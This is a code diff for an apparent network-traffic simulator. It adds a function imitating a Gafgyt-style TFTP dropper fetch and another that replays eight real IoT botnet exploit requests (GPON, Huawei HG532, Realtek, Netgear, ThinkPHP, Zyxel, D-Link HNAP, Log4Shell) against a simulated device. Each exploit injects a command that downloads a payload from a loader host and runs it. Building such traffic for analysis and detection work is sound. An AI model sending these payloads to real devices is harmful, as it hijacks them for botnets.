@@ -206,3 +206,55 @@ export function moziDht(sc: Scene, bot: Host, t: number, peers: string[], gap = 
     sc.at(t + i * gap, udpFrame(bot.mac, sc.router.mac, bot.ip, peer, sport, dport, krpcQuery(methods[i % 3]!, id, target, i), 64, sc.id()));
   });
 }
+
+/**
+ * A TFTP fetch as Gafgyt droppers run it where wget is missing (`tftp -g -r mips IP`): RRQ (RFC 1350 5) from the bot to
+ * the server's port 69, DATA blocks of 512 bytes from a new server port (TID), each ACKed. Returns the end time.
+ */
+export function tftpFetch(sc: Scene, bot: Host, server: Host, t: number, filename: string, body: Uint8Array): number {
+  const cport = sc.ephemeral();
+  const sport = sc.ephemeral();
+  const rrq = concat(Uint8Array.of(0, 1), text(filename), Uint8Array.of(0), text('octet'), Uint8Array.of(0));
+  sc.at(t, udpFrame(bot.mac, sc.router.mac, bot.ip, server.ip, cport, 69, rrq, 64, sc.id()));
+  let at = t + 40_000;
+  for (let block = 1, off = 0; off <= body.length; block++, off += 512) {
+    const chunk = body.subarray(off, off + 512);
+    sc.at(at, udpFrame(sc.router.mac, bot.mac, server.ip, bot.ip, sport, cport, concat(Uint8Array.of(0, 3, block >> 8, block & 255), chunk), 52, sc.id()));
+    sc.at(at + 20_000, udpFrame(bot.mac, sc.router.mac, bot.ip, server.ip, cport, sport, Uint8Array.of(0, 4, block >> 8, block & 255), 64, sc.id()));
+    at += 40_000;
+    if (chunk.length < 512) break;
+  }
+  return at;
+}
+
+/** What an exposed device receives from internet scanners in a day: the exploits IoT botnets carry, one request each. */
+export function exploitSweep(sc: Scene, dvr: Host, t: number, loaderIp: string): number {
+  const dl = `wget+http://${loaderIp}/x+-O+/tmp/x;sh+/tmp/x`;
+  const reqs: [number, string, string, Record<string, string>, string][] = [
+    // CVE-2018-10561/10562 (GPON): auth bypass "?images/", command in dest_host.
+    [80, 'POST', '/GponForm/diag_Form?images/', { 'User-Agent': 'Hello, World' }, `XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`busybox+${dl}\`;&ipv=0`],
+    // CVE-2017-17215 (Huawei HG532, port 37215): command in NewStatusURL.
+    [37215, 'POST', '/ctrlt/DeviceUpgrade_1', { 'Content-Type': 'text/xml', Authorization: 'Digest username="dslf-config"' },
+      `<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1"><NewStatusURL>$(/bin/busybox wget -g ${loaderIp} -l /tmp/x -r /mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>`],
+    // CVE-2014-8361 (Realtek miniigd, port 52869): command in NewInternalClient.
+    [52869, 'POST', '/picsdesc.xml', { SOAPAction: 'urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping' },
+      `<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>\`cd /var; wget http://${loaderIp}/r; sh r\`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>`],
+    // CVE-2024-12847 (Netgear DGN1000 setup.cgi syscmd).
+    [80, 'GET', `/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;${dl}&curpath=/&currentsetting.htm=1`, {}, ''],
+    // CVE-2018-20062 (ThinkPHP 5.x invokefunction).
+    [80, 'GET', `/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=${dl}`, {}, ''],
+    // CVE-2020-9054 (Zyxel NAS weblogin.cgi username).
+    [80, 'GET', `/adv,/cgi-bin/weblogin.cgi?username=admin';cd+/tmp;${dl}&password=asdf`, {}, ''],
+    // CVE-2015-2051 (D-Link HNAP1: command in the SOAPAction header).
+    [80, 'POST', '/HNAP1/', { SOAPAction: `http://purenetworks.com/HNAP1/\`cd /tmp && wget http://${loaderIp}/d && sh d\`` }, ''],
+    // CVE-2021-44228 (Log4Shell in the URI).
+    [80, 'GET', '/?id=${jndi:ldap://' + loaderIp + ':1389/a}', {}, ''],
+  ];
+  let at = t;
+  for (const [dport, method, uri, headers, body] of reqs) {
+    const req = concat(httpRequest(method, uri, { Host: `${dvr.ip}:${dport}`, ...headers, ...(body ? { 'Content-Length': String(body.length) } : {}), Connection: 'close' }), text(body));
+    const res = httpResponse(404, 'Not Found', { Server: 'JAWS/1.0', 'Content-Length': '0', Connection: 'close' });
+    at = sc.tcpSession(sc.remote(`45.148.10.${80 + (at % 7)}`), dvr, { t: at, dport, exchanges: [{ from: 'c', data: req }, { from: 's', data: res }] }) + 20 * S;
+  }
+  return at;
+}
